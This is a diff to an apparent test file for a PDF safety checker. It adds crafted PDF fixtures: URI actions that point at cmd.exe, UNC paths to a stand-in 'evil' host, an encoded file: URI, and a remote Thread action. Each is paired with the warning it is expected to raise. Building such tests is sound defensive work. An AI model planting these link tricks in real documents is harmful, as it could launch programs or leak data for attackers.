@@ -230,6 +230,11 @@ def _lone_embedded_stream(pdf: pikepdf.Pdf) -> None:
     pdf.Root.Odd = pdf.make_stream(EVIL, Type=pikepdf.Name.EmbeddedFile)
 
 
+def _links_begin_at_a_disk(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.URI = pikepdf.Dictionary(Base=pikepdf.String("file:///c:/"))
+    _action("URI", URI=pikepdf.String("windows/cmd.exe"))(pdf)
+
+
 def _xfa(pdf: pikepdf.Pdf) -> None:
     pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp/>"))
 
@@ -251,6 +256,14 @@ def _elsewhere(pdf: pikepdf.Pdf) -> None:
         (_action("URI", URI=pikepdf.String("javascript:alert(1)")), "start a program"),
         (_action("URI", URI=pikepdf.String(" java\nscript:alert(1)")), "start a program"),
         (_action("URI", URI=pikepdf.String("file:///etc/passwd")), "start a program"),
+        (_action("URI", URI=pikepdf.String("\\\\evil\\share\\x")), "start a program"),
+        (_action("URI", URI=pikepdf.String(" //evil/share")), "start a program"),
+        (
+            _action("URI", URI=pikepdf.String("\xfe\xff\0f\0i\0l\0e\0:\0/\0/\0/\0c".encode("latin-1"))),
+            "start a program",
+        ),
+        (_links_begin_at_a_disk, "start a program"),
+        (_action("Thread", F=pikepdf.String("//evil/x.pdf")), "start a program"),
         (_action("SubmitForm", F=pikepdf.String("https://evil.example")), "sends"),
         (_xfa, "sends"),
         (_attachment, "another file"),
